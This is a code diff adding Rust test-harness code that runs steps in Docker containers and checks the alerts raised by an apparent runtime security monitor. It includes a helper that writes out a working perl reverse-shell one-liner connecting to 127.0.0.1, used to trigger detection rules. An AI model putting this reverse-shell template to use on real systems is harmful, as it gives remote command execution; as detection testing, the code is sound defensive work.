@@ -217,3 +217,100 @@ pub fn watch_with(options: Options, name: &str, flags: &[&str], act: impl FnOnce
     let alerts = alerts.into_iter().filter(|a| a["output_fields"]["container.id"] == short).collect();
     Watched { alerts, log: String::from_utf8(log).unwrap(), stats }
 }
+
+/// A step of a [`Case`], done in its container.
+pub enum Step {
+    /// `docker exec -u USER ARGV`, which must succeed.
+    Exec(&'static str, Vec<String>),
+    /// `docker exec -d ARGV`: started, not waited for.
+    Detached(Vec<String>),
+    /// A pause (for a healthcheck to run).
+    Wait(Duration),
+}
+
+/// `docker exec` of `argv` as root.
+pub fn root(argv: &[&str]) -> Step {
+    Step::Exec("0", argv.iter().map(|&a| a.to_owned()).collect())
+}
+
+/// `docker exec` of `argv` as uid 1000.
+pub fn user(argv: &[&str]) -> Step {
+    Step::Exec("1000", argv.iter().map(|&a| a.to_owned()).collect())
+}
+
+/// `docker exec` of `perl -e SCRIPT` as root.
+pub fn perl(script: &str) -> Step {
+    root(&["/usr/bin/perl", "-e", script])
+}
+
+/// A perl script connecting to 127.0.0.1:`port`, then running `sh -c COMMAND` with its stdin and
+/// stdout on that socket: a reverse shell.
+pub fn reverse_shell(port: u16, command: &str) -> String {
+    format!(
+        "use IO::Socket::INET; $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; \
+         open STDIN, '<&', $s; open STDOUT, '>&', $s; exec '/bin/sh', '-c', '{command}'"
+    )
+}
+
+/// One row of a table of watch tests: steps done in a fresh container and the alerts they raise.
+pub struct Case {
+    /// The container's name is `hg-watch-NAME-PID`.
+    pub name: &'static str,
+    /// Its `docker run` flags.
+    pub flags: &'static [&'static str],
+    /// What is done in it, in order.
+    pub steps: Vec<Step>,
+    /// Each alert expected, in order: its rule and output fields (`container.name` is checked in
+    /// every alert besides).
+    pub alerts: Vec<(&'static str, Vec<(&'static str, String)>)>,
+}
+
+/// An expected alert of `rule` with `fields`, for [`Case::alerts`].
+pub fn alert(rule: &'static str, fields: &[(&'static str, &str)]) -> (&'static str, Vec<(&'static str, String)>) {
+    (rule, fields.iter().map(|&(k, v)| (k, v.to_owned())).collect())
+}
+
+impl Case {
+    /// Does the steps in `container`.
+    pub fn act(&self, container: &Container) {
+        for step in &self.steps {
+            match step {
+                Step::Exec(user, argv) => {
+                    container.exec_as(user, &argv.iter().map(String::as_str).collect::<Vec<_>>());
+                }
+                Step::Detached(argv) => {
+                    let mut args = vec!["exec", "-d", container.id.as_str()];
+                    args.extend(argv.iter().map(String::as_str));
+                    docker_ok(&args);
+                }
+                Step::Wait(pause) => std::thread::sleep(*pause),
+            }
+        }
+    }
+
+    /// Asserts that `alerts` are exactly the expected ones: their rules, in order, and the
+    /// expected fields of each.
+    pub fn check(&self, alerts: &[Value]) {
+        let container = format!("hg-watch-{}-{}", self.name, std::process::id());
+        let expected: Vec<(&str, Vec<(&str, Value)>)> = self
+            .alerts
+            .iter()
+            .map(|(rule, fields)| {
+                let mut fields: Vec<(&str, Value)> =
+                    fields.iter().map(|(k, v)| (*k, Value::from(v.as_str()))).collect();
+                fields.push(("container.name", Value::from(container.as_str())));
+                (*rule, fields)
+            })
+            .collect();
+        let seen: Vec<(&str, Vec<(&str, Value)>)> = alerts
+            .iter()
+            .enumerate()
+            .map(|(n, a)| {
+                let keys = expected.get(n).map_or(&[][..], |(_, fields)| fields.as_slice());
+                let fields = keys.iter().map(|(k, _)| (*k, a["output_fields"][*k].clone())).collect();
+                (a["rule"].as_str().unwrap_or_default(), fields)
+            })
+            .collect();
+        assert_eq!(seen, expected, "{}: {alerts:#?}", self.name);
+    }
+}
